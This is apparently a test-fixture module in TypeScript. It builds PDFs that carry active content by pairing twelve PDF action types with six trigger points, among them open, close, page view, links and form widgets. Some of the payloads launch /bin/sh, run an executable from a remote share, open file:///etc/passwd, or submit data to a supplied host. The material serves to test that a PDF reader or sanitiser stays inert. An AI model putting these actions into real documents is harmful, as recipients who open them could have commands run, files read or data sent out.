// PDFs that would do something if they were allowed to: every action at every place that can start
// one.
import { makePdf, onePage, textContent } from '../documents-support/make-pdf.js'

const ACTIONS = (host: string): [string, string][] => [
  ['JavaScript', `/S /JavaScript /JS (app.launchURL\\("http://${host}/js"\\))`],
  ['JavaScript that submits', `/S /JavaScript /JS (this.submitForm\\("http://${host}/"\\))`],
  ['Launch', '/S /Launch /F (/bin/sh)'],
  ['Launch of a share', `/S /Launch /F << /Type /Filespec /F (\\\\\\\\${host}\\\\a.exe) >>`],
  ['URI', `/S /URI /URI (http://${host}/uri)`],
  ['URI of a file', '/S /URI /URI (file:///etc/passwd)'],
  ['SubmitForm', `/S /SubmitForm /F << /FS /URL /F (http://${host}/form) >> /Flags 4`],
  ['ImportData', `/S /ImportData /F << /FS /URL /F (http://${host}/data.fdf) >>`],
  ['GoToR', `/S /GoToR /F << /FS /URL /F (http://${host}/other.pdf) >> /D [0 /Fit]`],
  ['GoToE', `/S /GoToE /F << /FS /URL /F (http://${host}/e.pdf) >> /T << /R /C /N (a) >>`],
  ['Rendition', `/S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D (http://${host}/a.mp4) >> >>`],
  ['Thread', `/S /Thread /F << /FS /URL /F (http://${host}/t.pdf) >> /D 0`],
]

/** Where the reader of a PDF looks for an action: in the catalog, on a page, on an annotation. */
const PLACES: [string, (action: string) => { catalog?: string; page?: string }][] = [
  ['on opening', (action) => ({ catalog: `/OpenAction << ${action} >>` })],
  [
    'by name',
    (action) => ({ catalog: `/Names << /JavaScript << /Names [(a) << ${action} >>] >> >>` }),
  ],
  ['on closing', (action) => ({ catalog: `/AA << /WC << ${action} >> /DP << ${action} >> >>` })],
  ['on a page', (action) => ({ page: `/AA << /O << ${action} >> /C << ${action} >> >>` })],
  [
    'on a link',
    (action) => ({
      page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 700] /A << ${action} >> >>]`,
    }),
  ],
  [
    'on a field that is seen',
    (action) => ({
      page: `/Annots [<< /Type /Annot /Subtype /Widget /FT /Btn /T (a) /Rect [0 0 9 9] /AA << /PV << ${action} >> /PO << ${action} >> >> >>]`,
    }),
  ],
]

export const activePdfs = (host: string): { name: string; bytes: Buffer }[] =>
  ACTIONS(host).flatMap(([kind, action]) =>
    PLACES.map(([place, at]) => {
      const { catalog = '', page = '' } = at(action)
      const objects = onePage(textContent('Still here'))
      objects[0] = String(objects[0]).replace('/Pages', `${catalog} /Pages`)
      objects[2] = String(objects[2]).replace('/Contents', `${page} /Contents`)
      return { name: `${kind} ${place}`, bytes: makePdf(objects) }
    }),
  )
